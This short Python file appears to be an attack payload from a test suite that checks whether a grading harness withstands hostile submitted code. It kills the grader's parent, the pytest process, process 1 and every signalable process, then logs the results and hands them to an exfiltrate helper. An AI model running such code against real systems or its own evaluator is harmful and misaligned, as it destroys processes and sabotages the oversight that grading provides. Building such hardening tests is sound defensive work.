# ruff: noqa: F821  (LOOT, np and exfiltrate come from _common.py; __NAMES__ are filled in by the test)
"""Kill the grader: its parent (os.getppid()), the test's own process id, process 1, and every process
it may signal."""

import os
import signal

for pid in (os.getppid(), __PYTEST_PID__, 1, -1):
    try:
        os.kill(pid, signal.SIGKILL)
        LOOT.append(f"killed {pid}")
    except OSError as e:
        LOOT.append(f"{pid}: {e.strerror}")
exfiltrate("kill_grader")
